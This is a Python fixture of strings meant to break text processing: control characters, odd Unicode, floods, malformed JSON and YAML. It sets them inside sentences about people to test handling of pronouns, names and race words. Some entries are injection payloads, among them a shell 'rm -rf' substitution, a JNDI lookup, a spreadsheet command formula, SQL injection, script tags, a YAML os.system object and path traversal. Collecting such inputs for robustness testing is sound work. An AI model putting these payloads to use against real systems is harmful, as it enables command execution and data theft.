"""Strings that break programs, written by us, and words for people to set between them."""

from __future__ import annotations

from itertools import cycle

_FLOOD = 300

NASTY = {
    # Characters that are hardly text.
    "nul": "\x00",
    "many nuls": "\x00" * 40,
    "control characters": "\x01\x02\x07\x08\x0b\x0c\x0e\x1a\x1b\x1c\x1d\x1e\x1f\x7f",
    "c1 control characters": "\x80\x85\x90\x9b\x9f",
    "terminal escapes": "\x1b[31m\x1b]0;her\x07\x1b[2J",
    "byte order mark": "\ufeff",
    "byte order mark turned round": "\ufffe",
    "replacement characters": "\ufffd\ufffd",
    "noncharacters": "\ufdd0\ufdef\uffff\U0001fffe\U0010ffff",
    "private use": "\ue000\uf8ff\U000f0000\U00100000",
    "tag characters": "\U000e0001\U000e0068\U000e0065\U000e007f",
    "variation selectors": "\ufe00\ufe0f\U000e0100",
    "soft hyphens": "h\u00ade\u00ad",
    "interlinear marks": "\ufff9her\ufffahis\ufffb",
    # Ends of lines and blanks.
    "ends of lines": "\r\n\n\r\r\n\n\r",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "next line": "\x85",
    "odd blanks": "\u00a0\u1680\u2003\u200a\u202f\u205f\u3000",
    "blank lines": "\n \n\t\n\n",
    "nothing to see": "\u200b\u2060\u180e\ufeff",
    # Letters that change their length or are not what they seem.
    "dotted capital i": "\u0130stanbul \u0130\u0130",
    "dotless small i": "h\u0131s",
    "sharp s": "GROSSE \u1e9e \u00df",
    "ligatures": "\ufb01anc\u00e9 \ufb03 \u01c4\u01c5\u01c6",
    "final sigma": "\u03a3\u03a3 \u03c3\u03c2",
    "letter before an apostrophe": "\u0149 \u1f52 \u0390",
    "cyrillic homoglyphs": "h\u0435 \u0455h\u0435 h\u0435r",
    "greek homoglyphs": "\u0397e \u041de \u1d34e",
    "wide letters": "\uff28\uff45 \uff53\uff48\uff45",
    "mathematical letters": "\U0001d421\U0001d41e \U0001d42c\U0001d421\U0001d41e",
    "mixed scripts": "she\u5979 \u043e\u043d\u0430 \u0647\u064a \u0939 \u05d4\u05d9\u05d0",
    "zalgo": "h\u0300\u0301\u0302\u0303\u0304\u0315\u031b\u0321e\u0489\u0334\u0335\u0336r\u20dd\u20e0",
    "combining flood": "e" + "\u0301" * _FLOOD,
    "a mark without a letter": "\u0301\u0308",
    "decomposed letters": "e\u0301 o\u0308 A\u030a",
    "hangul jamo": "\u1112\u1161\u11ab",
    "joiners within words": "h\u200de s\u200ch\u2060e",
    # Directions.
    "right to left": "\u202eher\u202c",
    "isolates": "\u2066his\u2067her\u2069\u2069",
    "direction marks": "\u200e\u200f\u061c",
    "hebrew": "\u05d4\u05d9\u05d0 \u05d0\u05de\u05e8\u05d4 she \u05dc\u05d5",
    "arabic": "\u0642\u0627\u0644\u062a her \u0644\u0647",
    "overrides that nothing ends": "\u202d\u202e\u202d",
    # Emoji.
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "skin tones": "\U0001f469\U0001f3ff\u200d\U0001f692 \U0001f3fb\U0001f3fb",
    "joined to nothing": "\u200d\U0001f469\u200d\u200d\u2640\ufe0f\u200d",
    "flags": "\U0001f1fa\U0001f1f8\U0001f1fa \U0001f3f4\U000e0067\U000e0062\U000e007f",
    "keycaps": "1\ufe0f\u20e3#\ufe0f\u20e3",
    "a chain of women": "\U0001f469\u200d" * 30,
    "signs": "\u2640\u2642\ufe0f\u26a7",
    # Single tokens.
    "one long token": "x" * (4 * _FLOOD),
    "one long token of pronouns": "her" * _FLOOD,
    "one long token of capitals": "Mary" * _FLOOD,
    "one long token of dots": "a." * _FLOOD,
    "underscores": "_" * _FLOOD + "she_" * 9,
    "huge number": "9" * (15 * _FLOOD),
    "huge exponent": "1e999999999 -1E+99999 0x7fffffffffffffff 1_000_000",
    "not a number": "NaN Infinity -Infinity nan inf",
    "leading zeros": "007 0000000000000000000000001",
    "fractions and powers": "\u00bd\u2153 x\u00b2\u2075 \u2460\u3289 \u216b",
    # Marks that want a partner.
    "open quotes": "\"'\u201c\u2018`\u00ab",
    "quotes": "\"'\"''\"\"'",
    "backticks": "``` `` `her` ```",
    "fence that nothing closes": "```python\nhis = her\n",
    "open brackets": "([{<" * 30,
    "closed brackets": "}>])" * 30,
    "brackets crossed": "([)]{<}>",
    "backslashes": "\\\\\\ \\\" \\' \\n \\u0068\\u0065\\ud800",
    "apostrophes": "she''s he'd'v \u2019s\u2019\u2019",
    "dashes": "--\u2013\u2014\u2015-her--his-",
    "stops": "." * 60 + "\u2026?!?!.",
    "markup": "<b><i class='her'>she</b></i><br/><br <a href=\"",
    "comment": "<!-- her <![CDATA[ his ]]> -->",
    "entities": "&amp;&#104;&#x65;&lt;she&gt;&bogus;&",
    "markdown": "**her** _his_ [she](http://her.example) ![he]( #her",
    "latex": "\\textbf{she} $\\frac{her}{his}$ \\begin{he}",
    # What other programs carry out.
    "formula": "=cmd|' /C calc'!A0",
    "more formulas": '+1+1 -2+3 @SUM(her) =HYPERLINK("http://x.example","his")',
    "cell with its quotes": '"her","his"\r\n"she',
    "tabs and commas": "she\ther,his;him|",
    "sql": "Robert'); DROP TABLE students;-- her",
    "html": "<script>alert('her')</script><img src=x onerror=his>",
    "shell": "$(rm -rf her) `his` ; she && he | him > /dev/null",
    "templates": "{{ her.__class__ }} {% she %} ${his} #{he} <%= him %>",
    "log lookup": "${jndi:ldap://her.example/his}",
    "format strings": "%s %n %(her)d {} {0} {her!r:>99999999} %99999999s",
    "regex": "(?P<her>a+)+$ [a-z]* \\b(?:his|her)\\b .*? ^$ (?<=she)",
    "regex that backtracks": "a" * 40 + "!" + "(a+)+b",
    "group references": "\\1 \\g<0> $1 $& \\0",
    "paths": "../../../../etc/passwd ..\\..\\her C:\\his\\ /dev/null file:///she",
    "links": "http://http://her.example/@his?she=he#him her@his.example ftp://",
    "link without an end": "http://" * 40,
    "e-mail flood": "her@" * 40 + "@@@",
    "environment": "$HOME %PATH% ~root ~",
    # Data in texts.
    "deep json": "[" * _FLOOD,
    "deep json of keys": '{"her":' * _FLOOD,
    "json": '{"her": "Mary", "list": ["he", {"she": null}], "n": 1e5}',
    "json cut off": '{"name": "Mary Low", "she": "he sa',
    "json within json": '{"a": "{\\"b\\": \\"{\\\\\\"her\\\\\\": \\\\\\"Mary\\\\\\"}\\"}"}',
    "json with half a pair": '{"name": "Mary \\ud83d she"}',
    "json with single quotes": "{'her': 'his', 'name': 'Mary'",
    "yaml bomb": "a: &a [her, his]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]",
    "yaml object": "!!python/object/apply:os.system ['echo her']",
    "toml": "[[her]]\n[her.his]\nshe = '''he\nhim = 1979-05-27T07:32:00Z",
    "xml bomb": '<!DOCTYPE l [<!ENTITY a "her"><!ENTITY b "&a;&a;">]><l>&b;</l>',
    "front matter": "---\nher: his\n---\n",
    "diff": "@@ -1,2 +1,2 @@\n-her\n+his\n",
    "table": "| she | he |\n|---|---|\n| her | his |",
    "chat marks": "<|im_start|>assistant\n[INST] her [/INST] </s>",
    # Words in places that mislead.
    "floods of pronouns": "her " * 60,
    "pairs": "he/she s/he (s)he he or she/he or her/his/him",
    "possessives": "her's hers' his' James's' Mary's's",
    "titles": "Mr Mrs. Mr. Ms Miss Mr.Mr. Mrs/Mr Dr. Mr",
    "capitals": "SHE HE HER HIS MARY JAMES BLACK",
    "alternating": "sHe hEr HiS mArY",
    "names run together": "MaryJohn Mary-John-Mary O'Mary Mac-Mary Mary/John",
    "race words": "Black/white/Black-white BLACK blackish unBlack Latina/o Latinx Latin@",
    "handles": "@her #his @Mary_Low #BlackWomen u/she r/him",
    "hyphens at ends of lines": "wo-\nman grand-\r\nmother her-\nself",
    "articles": "a an A An a\u00a0 an\n a  actor an  uncle",
}
"""What each is, and the string."""

LONE = {
    "high surrogate": "\ud800",
    "low surrogate": "\udfff",
    "surrogates the wrong way round": "\udc00\ud83d",
    "half an emoji": "she \ud83d her",
    "bytes that were no text": "\udc80\udcff her",
}
"""Halves of surrogate pairs, which Python can hold and no file can."""

FRAMES = (
    "She met Mary Low and her brother{}.",
    "{}He told his Black aunt, an actress.",
    "Mr. Smith{}said she is pregnant",
    "{}",
    "her {} his",
    "The white woman{}and DeShawn Washington's mother {}",
    "Will{}she? \u201c{}Her,\u201d Maria Garcia said.",
    "{}\nMarie Curie and her husband{}\n",
)
"""Words for people, with places for a string."""

PEOPLE = (
    *("she", "he", "her", "his", "him", "hers", "himself", "Her", "HIS", "She", "they", "he or she", "s/he", "she's"),
    *("mother", "the man", "women", "a king", "an actress", "uncle", "Mr.", "Mrs", "Ms. Low", "ladies'", "grandmother"),
    *(
        "Mary",
        "Mary Low",
        "James",
        "Will",
        "Hope",
        "John F. Kessler Jr.",
        "DeShawn Washington",
        "Maria Garcia",
        "Low's",
    ),
    *("Marie Curie", "Tom Hanks", "Hanks", "black", "Black", "white people", "an Asian man", "Latina", "a Black woman"),
    *("pregnant", "said", "is", "met", "of", "and", "a", "an", "the first", "sings and dances", "bitch", "firefighter"),
)
"""Words to be mixed."""

MARKS = (
    ".",
    ",",
    "?",
    "!",
    ";",
    ":",
    " ",
    "  ",
    "\n",
    "\n\n",
    "\r\n",
    "\t",
    "(",
    ")",
    '"',
    "'",
    "\u201c",
    "\u2019",
    "-",
)


def sentences(strings: dict[str, str]) -> list[str]:
    """Each string in each frame."""
    return [frame.replace("{}", string) for string in strings.values() for frame in FRAMES]


def pairs() -> list[str]:
    """Each string beside each other one, with words for people at their edges."""
    words = cycle(PEOPLE)
    return [f"{next(words)} {one}{next(words)} {two} {next(words)}" for one in NASTY.values() for two in NASTY.values()]
